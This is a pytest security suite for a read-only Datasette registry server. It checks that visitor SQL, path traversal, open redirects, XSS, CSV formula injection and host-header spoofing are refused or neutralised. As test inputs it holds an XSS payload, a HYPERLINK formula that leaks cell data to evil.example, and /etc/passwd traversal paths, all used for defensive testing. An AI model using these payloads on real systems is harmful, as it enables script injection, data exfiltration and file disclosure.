"""What visitors may not do to a served registry, each tried."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import sqlite3
from contextlib import closing, suppress
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pytest
from datasette.app import SETTINGS as KNOWN
from datasette.app import Datasette
from hypothesis import given
from hypothesis import strategies as st

from registry import Registry
from registry.browse.server.base_address import base_address
from registry.browse.server.csv_export import CsvRows
from registry.browse.server.serving import SETTINGS, Place, metadata_for
from registry.domain.dates.edtf import FIRST_DAY, LAST_DAY
from registry.domain.errors import RegistryError
from registry.domain.exchange.csv_injection import harmless, unharmed
from tests.browse.visitors import Visit, visitor
from tests.conftest import DATA

SCRIPT = (
    "'\"></td></textarea></script><script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>"
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PAGES = ("/", "/registry", "/registry/people", "/registry/people/1", "/registry/who_held", "/role/nobody", "/nowhere")


@pytest.fixture(scope="module")
def visit(served: Path) -> Visit:
    return visitor(served)


def spoilt(path: Path, text: str) -> tuple[Path, list[tuple[str, str]]]:
    """The sample registry with `text` in every column that takes it, as another program may write it."""
    Registry.from_package(path, DATA, actor="a tester", because="to be spoilt")
    taken = []
    with closing(sqlite3.connect(path)) as db, db:
        for table, words in metadata_for("registry")["databases"]["registry"]["tables"].items():
            for column in words.get("columns", ()):
                with suppress(sqlite3.Error):
                    if db.execute(f"update {table} set {column} = ? || id where id < 9", [text]).rowcount:
                        taken.append((table, column))
    return path, taken


class Tags(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.links: list[str] = []
        self.harm: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag == "img" or any(name.startswith("on") for name in given):
            self.harm.append(f"{tag} {given}")
        self.links += [given[name] or "" for name in ("href", "src", "action") if name in given]


# Reading only


@pytest.mark.parametrize(
    "method", ["POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "GETS"]
)
@pytest.mark.parametrize("address", ["/registry/people", "/role/chief-of-the-general-staff", "/-/logout", "/nowhere"])
def test_nothing_but_reading_is_answered(visit: Visit, method: str, address: str):
    reply = visit(address, method)

    assert (reply.status, reply.headers["allow"]) == (405, "GET, HEAD")


@pytest.mark.parametrize("address", ["/registry/people", "/registry/people.csv", "/role/chief-of-the-general-staff"])
def test_a_head_is_a_get_without_the_text(visit: Visit, address: str):
    head, get = visit(address, "HEAD"), visit(address)

    assert (head.status, head.text) == (get.status, "")
    assert head.headers["content-type"] == get.headers["content-type"]


@pytest.mark.parametrize(
    "address",
    [
        "/registry?sql=select+1",
        "/registry.json?sql=select+1",
        "/registry/people?_where=1=1",
        "/registry/people?_where=id+in+(select+1)",
        "/registry/people?_through=%7B%22table%22:%22sqlite_master%22%7D",
        "/registry/people?_search=x&_fts_table=sqlite_master",
        "/registry/people?_search=x&_searchmode=raw",
        "/registry/who_held?sql=select+1",
        "/registry/-/query?sql=select+1",
        "/registry/people?%5fwhere=1",
        "/registry/people?_trace=1",
        "/registry/people?_context=1",
        "/registry/people?_ttl=99999999",
    ],
)
def test_no_sql_of_a_visitor_runs(visit: Visit, address: str):
    assert visit(address).status in (400, 404)


@pytest.mark.parametrize("address", ["/registry?sql=select+1", "/registry/people?_where=1=1"])
def test_no_sql_of_a_visitor_runs_without_the_gate(served: Path, address: str):
    """metadata.yml alone, with `datasette registry.db -m metadata.yml`."""
    datasette = Datasette([str(served)], metadata=metadata_for("registry"))

    assert asyncio.run(datasette.client.get(address)).status_code == 403


@pytest.mark.parametrize(
    "address", ["/registry.db", "/registry.db?_dl=1", "/-/databases.json", "/_memory", "/_internal"]
)
def test_the_file_and_other_databases_are_not_to_be_had(visit: Visit, address: str):
    assert visit(address).status in (403, 404)


def test_no_page_tells_where_the_file_is(visit: Visit, served: Path):
    for address in (*PAGES, "/registry.json", "/-/metadata.json", "/-/threads.json", "/-/versions", "/-/allow-debug"):
        assert str(served.parent) not in visit(address).text


@pytest.mark.parametrize(
    "address",
    [
        "/-/static/../../../../../../etc/passwd",
        "/-/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/-/static/%2e%2e/app.py",
        "/-/static//etc/passwd",
        "/-/static-plugins/officeholders/../metadata.yml",
        "/-/static-plugins/officeholders/%2e%2e/metadata.yml",
        "/../../etc/passwd",
        "/registry/../../etc/passwd",
    ],
)
def test_no_file_outside_is_served(visit: Visit, address: str):
    reply = visit(address)

    assert reply.status in (302, 403, 404)
    assert "root:" not in reply.text
    assert "title: Who held" not in reply.text


@pytest.mark.parametrize(
    "address",
    ["//evil.example/%41", "//evil.example/", "/\\evil.example/", "/%2f/evil.example/%41/", "/%5cevil.example/"],
)
def test_nobody_is_sent_to_another_site(visit: Visit, address: str):
    place = visit(address).headers.get("location", "/")

    assert re.match(r"/(?![/\\])", place)


# As much as there is


@pytest.mark.parametrize(
    "address",
    [
        "/registry/people?_size=1000000",
        "/registry/people?_size=-1",
        "/registry/people?_size=1e9",
        "/registry/people?_facet=name&_facet_size=1000000",
        "/registry/people?" + "&".join(f"_facet={name}" for name in ("id", "slug", "name", "note", "kind", "rank")),
        "/registry/people?" + "&".join(f"_facet_array=n{number}" for number in range(6)),
        "/registry/people?" + "&".join(f"a{number}=1" for number in range(10_000)),
        "/registry/people?" + "&".join(f"a{number}=1" for number in range(100)),
        "/registry/people?name=" + "x" * 5_000,
        "/registry/" + "x" * 5_000,
        "/registry/people?id__gt=99999999999999999999",
        "/registry/citations?quote__like=" + quote("%a" * 500),
        "/registry/citations?quote__glob=" + quote("*a" * 500),
        "/registry/people?_sort=name&_sort=slug&_next=" + ",".join("1" * 50),
        "/registry/people?name=%00",
    ],
)
def test_what_asks_for_too_much_is_refused(visit: Visit, address: str):
    assert visit(address).status in (400, 414)


@pytest.mark.parametrize(
    "address", ["/registry/people?name__like=" + quote("%a" * 99), "/registry/people?name__glob=" + quote("*?" * 99)]
)
def test_a_pattern_that_a_person_might_type_is_answered(visit: Visit, address: str):
    assert visit(address).status == 200


@pytest.mark.parametrize(
    "address", ["/nowhere", "/registry//people", "/registry/people?_col=nope", "/registry/people/0"]
)
def test_a_refusal_costs_and_prints_nothing(visit: Visit, address: str, capfd: pytest.CaptureFixture[str]):
    """With rich installed, Datasette prints every variable of whatever it cannot find, and may fail in doing so."""
    assert visit(address).status in (400, 404)
    assert capfd.readouterr().out == ""


def test_the_limits_are_those_of_datasette():
    assert set(SETTINGS) <= {setting.name for setting in KNOWN}


# Texts that are more than text


@pytest.fixture(scope="module")
def scripted(tmp_path_factory: pytest.TempPathFactory) -> tuple[Visit, list[tuple[str, str]]]:
    path, taken = spoilt(tmp_path_factory.mktemp("scripted") / "registry.db", SCRIPT)
    return visitor(path), taken


def test_a_hostile_text_is_a_text_on_every_page(scripted: tuple[Visit, list[tuple[str, str]]]):
    visit, taken = scripted
    assert len(taken) > 60

    for table in dict.fromkeys(table for table, _ in taken):
        for address in (f"/registry/{table}", f"/registry/{table}/1", f"/registry/{table}?_facet={taken[0][1]}"):
            page = visit(address).text
            found = Tags(page)
            assert not found.harm, address
            assert all(re.match(r"https?://|/|#|\?|$", link) for link in found.links), address
            assert "<script>alert" not in page


def test_a_hostile_text_in_an_address_is_a_text(visit: Visit):
    for address in (
        f"/registry/people?name={quote(SCRIPT)}",
        f"/registry/people?_search={quote(SCRIPT)}",
        f"/registry/people?_sort={quote(SCRIPT)}",
        f"/registry/people?_col={quote(SCRIPT)}",
        f"/registry/people?_next={quote(SCRIPT)}",
        f"/registry/who_held?role={quote(SCRIPT)}&on={quote(SCRIPT)}",
        f"/role/x?on={quote(SCRIPT)}",
        f"/role/{quote(SCRIPT, safe='')}",
        f"/registry/{quote(SCRIPT, safe='')}",
        f"/{quote(SCRIPT, safe='')}",
        f"/registry/people?_where={quote(SCRIPT)}",
    ):
        reply = visit(address)
        if reply.headers.get("content-type", "").startswith("text/html"):
            assert not Tags(reply.text).harm, address
            assert "<script>alert" not in reply.text


def test_json_is_no_page(scripted: tuple[Visit, list[tuple[str, str]]]):
    visit, _ = scripted
    reply = visit("/registry/people.json")

    assert reply.headers["content-type"].startswith("application/json")
    assert reply.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("address", PAGES)
def test_no_page_may_run_a_script_or_be_framed(visit: Visit, address: str):
    reply = visit(address)

    policy = reply.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src" not in policy
    assert "frame-ancestors 'none'" in policy
    assert reply.headers["referrer-policy"] == "no-referrer"


def test_scripts_of_other_plugins_run_on_the_tables_alone_where_the_operator_says_so(served: Path, tmp_path: Path):
    allowed = tmp_path / "metadata.json"
    allowed.write_text('{"plugins": {"registry": {"scripts": true}}}')
    visit = visitor(served, metadata=allowed)

    policies = {address: visit(address).headers["content-security-policy"] for address in PAGES}
    scripted = {address for address, policy in policies.items() if "script-src" in policy}
    assert scripted == {"/registry/people", "/registry/people/1", "/registry/who_held"}
    assert all("frame-ancestors 'none'" in policy for policy in policies.values())
    allowed.write_text('{"plugins": {"registry": {"scripts": "yes"}}}')
    assert "script-src" not in visitor(served, metadata=allowed)("/registry/people").headers["content-security-policy"]


def test_a_refusal_of_the_gate_carries_the_same_headers(visit: Visit):
    reply = visit("/registry/people", "POST")

    assert "default-src 'none'" in reply.headers["content-security-policy"]
    assert reply.headers["cache-control"] == "no-store"


# Spreadsheets


@pytest.mark.parametrize(
    "address", ["/registry/{}.csv", "/registry/{}.csv?_dl=1", "/~72egistry/{}.csv", "/registry/{}.csv?_stream=1"]
)
def test_no_cell_of_a_table_begins_like_a_formula(tmp_path: Path, address: str):
    path, taken = spoilt(tmp_path / "registry.db", FORMULA)
    visit = visitor(path)

    for table in dict.fromkeys(table for table, _ in taken):
        reply = visit(address.format(table))
        cells = [cell for row in csv.reader(io.StringIO(reply.text, newline="")) for cell in row]
        assert any(cell.startswith(f"'{FORMULA}") for cell in cells), table
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


CELLS = st.text() | st.sampled_from([FORMULA, "'", '"', "\r", "\n=1", "a,=b", '"=1"', ""])


@given(st.lists(st.lists(CELLS, min_size=2, max_size=4), max_size=5), st.lists(st.integers(1, 9), max_size=20))
def test_a_sheet_is_the_same_but_for_the_sign_whatever_its_pieces(rows: list[list[str]], sizes: list[int]):
    written = io.StringIO(newline="")
    csv.writer(written).writerows(rows)
    sheet, rest, sent = CsvRows(), written.getvalue().encode("utf-8", "replace"), b""
    expected = list(csv.reader(io.StringIO(rest.decode(), newline="")))
    for size in sizes:
        sent += sheet.piece(rest[:size], last=False)
        rest = rest[size:]
    sent += sheet.piece(rest, last=True)

    read = list(csv.reader(io.StringIO(sent.decode(), newline="")))
    assert read == [[harmless(cell) for cell in row] for row in expected]
    assert [[unharmed(cell) for cell in row] for row in read] == expected


def test_an_open_side_is_empty_in_a_sheet():
    sheet = f"a,b,c\r\n{FIRST_DAY},{LAST_DAY},2024-01-01\r\n".encode()

    assert CsvRows().piece(sheet, last=True) == b"a,b,c\r\n,,2024-01-01\r\n"


def test_the_sheets_of_the_pages_are_not_made_harmless_twice(tmp_path: Path):
    path, _ = spoilt(tmp_path / "registry.db", FORMULA)
    with closing(sqlite3.connect(path)) as db:
        (role,) = db.execute("select slug from roles where id > 8 limit 1").fetchone()

    assert f"''{FORMULA[:3]}" not in visitor(path)(f"/role/{role}.csv?on=2020-01-01").text


# Names and prefixes


@pytest.mark.parametrize("host", ["localhost", "localhost:8001", "127.0.0.1:8001", "[::1]:8001", "offices.example"])
def test_the_names_that_were_said_are_answered(served: Path, host: str):
    place = Place(hosts={"localhost", "127.0.0.1", "::1", "offices.example"})

    assert visitor(served, place)("/registry", headers={"host": host}).status == 200


def test_five_facets_are_counted_and_no_more(visit: Visit):
    facets = [f"_facet={name}" for name in ("id", "slug", "name", "note", "birth_date", "death_date")]

    assert visit(f"/registry/people?{'&'.join(facets[:5])}").status == 200
    assert visit(f"/registry/people?{'&'.join(facets)}").status == 400


@pytest.mark.parametrize(
    "host", ["evil.example", "localhost.evil.example", "", "127.0.0.1.evil.example:8001", "[::1", "é"]
)
def test_another_name_is_not_answered(served: Path, host: str):
    """A page on the web may have a name of its own lead to this machine, and read what is served to it."""
    place = Place(hosts={"localhost", "127.0.0.1", "::1"})

    assert visitor(served, place)("/registry", headers={"host": host}).status == 421


def test_links_stay_behind_the_prefix(served: Path):
    visit = visitor(served, Place(prefix="/offices/"))

    for address in ("/registry/roles", "/role/chief-of-the-general-staff", "/registry", "/registry/people/1", "/"):
        reply = visit(f"/offices{address}")
        assert reply.status == 200
        # A proxy may leave the prefix in the address or take it away.
        assert Tags(reply.text).links == Tags(visit(address).text).links
        assert "/offices/offices" not in reply.text
        for link in Tags(reply.text).links:
            assert re.match(r"https?://(?!localhost)|(http://localhost:8001)?/offices/|#|\?|$", link), link
    assert Tags(visit("/offices").text).links == Tags(visit("/offices/").text).links
    assert visit("/offices/registry/people?_where=1").status == 400
    assert visit("/offices/-/versions").status == 404
    assert visit("/offices/registry/people", "POST").status == 405
    assert "9999-12-31" not in visit("/offices/registry/appointments.csv").text


def test_the_headers_of_a_proxy_change_no_links(visit: Visit):
    headers = {"x-forwarded-host": "evil.example", "x-original-url": "//evil.example", "forwarded": "host=evil.example"}

    assert "evil.example" not in visit("/registry/people", headers=headers).text


TOOK = re.compile(r"[0-9.]+ms|.query_ms.: [0-9.]+")  # how long it took is another each time
NAMED = (
    "/", "/role/chief-of-the-general-staff", "/role/chief-of-the-general-staff.ics", "/changes.atom", "/people?page=2",
    "/registry/people", "/registry/people.json?_size=5", "/registry/people/1", "/registry/who_held", "/nowhere",
)  # fmt: skip


@pytest.mark.parametrize("base", [None, "https://offices.example/of/"])
def test_the_name_that_a_visitor_writes_is_in_no_page(served: Path, base: str | None):
    """A cache would hand it on to other visitors."""
    visit = visitor(served, Place(base=base) if base else None)
    for address in NAMED:
        path = f"/of{address}" if base else address
        reply = visit(path, headers={"host": "offices.example", "x-forwarded-host": "evil.example"})
        other = visit(path, headers={"host": "localhost:1234"})
        assert TOOK.sub("", reply.text) == TOOK.sub("", other.text), address
        assert reply.headers.get("link") == other.headers.get("link")
        assert "evil.example" not in reply.text + str(reply.headers)
        assert "localhost" not in other.text.replace("tag:localhost", "") + str(other.headers)


def test_links_and_citations_begin_with_the_public_address(served: Path):
    visit = visitor(served, Place(base="https://offices.example/of/"))
    page, feed = visit("/of/role/chief-of-the-general-staff").text, visit("/of/changes.atom").text

    assert '<link rel="canonical" href="https://offices.example/of/role/chief-of-the-general-staff' in page
    assert 'class="permalink" href="https://offices.example/of/role/' in page
    assert "https://offices.example/of/change/1" in feed
    assert visit("/of/registry/people.json?_size=5").json()["next_url"].startswith("https://offices.example/of/")
    assert visit("/of/", headers={"host": "evil.example"}).status == 421


def test_without_a_public_address_links_are_relative(visit: Visit):
    assert (
        '<link rel="canonical" href="/role/chief-of-the-general-staff' in visit("/role/chief-of-the-general-staff").text
    )
    assert "URL:" not in visit("/role/chief-of-the-general-staff.ics").text


@pytest.mark.parametrize(
    "text",
    ["example.org", "ftp://example.org", "https://", "https://u:p@example.org/", "https://example.org/?a", "https://é/",
     "https://example.org/a b", "https://example.org/../x", "https://example.org:99999/", "https://[::1/",
     "javascript:x"],
)  # fmt: skip
def test_what_is_no_public_address_is_refused(text: str):
    with pytest.raises(RegistryError, match="is not a public address"):
        base_address(text)


def test_a_public_address_is_told_apart():
    assert base_address("https://Example.org:8443/a/b") == ("https://example.org:8443/a/b/", "example.org", "/a/b/")
    assert base_address("http://[::1]:80") == ("http://[::1]:80/", "::1", "/")


def test_what_is_personal_is_not_cached(visit: Visit):
    assert visit("/registry/people").headers["cache-control"] == "max-age=5"
    assert visit("/registry/people", headers={"cookie": "ds_actor=x"}).headers["cache-control"] == "private, no-store"
